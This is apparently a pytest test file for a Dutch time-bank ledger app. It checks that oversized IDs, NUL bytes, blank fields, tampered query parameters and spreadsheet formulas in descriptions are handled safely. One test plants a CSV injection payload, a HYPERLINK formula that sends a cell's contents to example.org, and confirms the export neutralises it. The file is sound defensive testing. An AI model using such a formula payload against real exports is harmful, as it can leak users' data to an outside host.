"""Input nobody should send, and what the app does with it: never a server error, never a
link that a made-up query can break or bend, never a spreadsheet cell that runs."""

import pytest

from ruilkring.ledger.models import PaymentRequest, Transfer
from ruilkring.spreadsheet import spreadsheet_csv
from tests.helpers import balance, count, field_error, pay, text, url


@pytest.mark.parametrize("path", [
    "/beheer/transacties/3000000000", "/leden/3000000000/saldo", "/leden/99999999999999999999/saldo.csv",
    "/beheer/leden/3000000000/limieten",
])
def test_an_id_past_what_the_database_holds_is_not_found(client, login, ring, coby, path):
    login(coby.user)
    assert client.get(url(ring, path)).status_code == 404


@pytest.mark.parametrize("query", ["/betalen?advertentie=3000000000", "/betalen?aan=99999999999999999999",
                                   "/saldo?voor=3000000000", "/beheer/transacties?member=3000000000",
                                   "/beheer/transacties?page=99999999999999999999"])
def test_an_id_past_what_the_database_holds_in_a_query_is_ignored_or_not_found(client, login, ring, coby, query):
    login(coby.user)
    assert client.get(url(ring, query)).status_code in (200, 404)


def test_a_payee_id_past_what_the_database_holds_is_refused_as_unknown(client, login, ring, anna):
    login(anna.user)
    response = client.post(url(ring, "/betalen"), data={
        "payee": "3000000000", "amount": "1:00", "description": "x", "idempotency_key": "k", "confirmed": "1"})
    assert response.status_code == 200 and field_error(text(response), "payee")
    assert count(Transfer) == 0


def test_a_nul_character_is_refused_before_anything_is_stored(client, login, ring, anna, bert):
    login(anna.user)
    response = client.post(url(ring, "/betalen"), data={
        "payee": bert.id, "amount": "1:00", "description": "a\x00b", "idempotency_key": "k", "confirmed": "1"})
    assert response.status_code == 400 and "Controleer wat u invulde" in text(response)
    assert client.get(url(ring, "/saldo?date_from=\x00")).status_code == 400
    assert client.get("/kring/a%00b/saldo").status_code == 400
    assert count(Transfer) == 0


@pytest.mark.parametrize("amount", ["   ", ""])
def test_an_amount_of_only_spaces_asks_for_an_amount(client, login, ring, anna, bert, amount):
    login(anna.user)
    for path, data in (("/betalen", {"payee": bert.id, "description": "x", "idempotency_key": "k"}),
                       ("/betaalverzoeken", {"payer": bert.id, "description": "x", "idempotency_key": "k"})):
        response = client.post(url(ring, path), data={**data, "amount": amount})
        assert response.status_code == 200
        assert "Vul in hoeveel tijd het was." in field_error(text(response), "amount")
    assert count(Transfer) == count(PaymentRequest) == 0


def test_a_description_of_only_spaces_is_asked_for_before_confirming(client, login, ring, anna, bert):
    login(anna.user)
    response = client.post(url(ring, "/betalen"), data={
        "payee": bert.id, "amount": "1:00", "description": "   ", "idempotency_key": "k"})
    assert "Schrijf erbij waarvoor u betaalt." in field_error(text(response), "description")
    assert "Klopt dit" not in text(response)


def test_made_up_query_values_cannot_break_or_bend_the_paging_links(client, login, ring, anna, bert, coby):
    for n in range(55):  # more than a page of the overview (50) and of a statement
        pay(anna, bert, 5, f"t{n}")
    login(coby.user)
    for query in ("_method=POST", "ring_slug=elders&_external=1", "endpoint=main.home"):
        response = client.get(url(ring, f"/beheer/transacties?{query}"))
        assert response.status_code == 200
        html = text(response)
        assert f'href="/kring/{ring.slug}/beheer/transacties?page=2"' in html
        assert "/kring/elders" not in html and 'href="http://' not in html
    html = text(client.get(url(ring, f"/leden/{anna.id}/saldo?member_id={bert.id}&_anchor=x")))
    assert f"/kring/{ring.slug}/leden/{anna.id}/saldo?voor=" in html
    assert f"/leden/{bert.id}/saldo" not in html and "#x" not in html


def test_a_description_cannot_become_a_spreadsheet_formula(client, login, ring, anna, bert):
    pay(anna, bert, 30, '=HYPERLINK("http://example.org/?"&A1,"klik")')
    pay(anna, bert, 30, "@SUM(1+1)", key="k2")
    login(bert.user)
    csv_text = text(client.get(url(ring, "/saldo.csv")))
    assert "'=HYPERLINK" in csv_text and "'@SUM" in csv_text
    assert ";-0:30;" not in csv_text and ";0:30;" in csv_text  # amounts stay numbers
    assert balance(bert) == 60


def test_spreadsheet_cells_keep_numbers_and_neutralise_formulas():
    assert spreadsheet_csv([["-0:45", -45, "+31 6 1234", "-1,5", "=1+1", "\tx", "gewoon"]]) == (
        "\ufeff-0:45;-45;'+31 6 1234;-1,5;'=1+1;'\tx;gewoon\r\n")

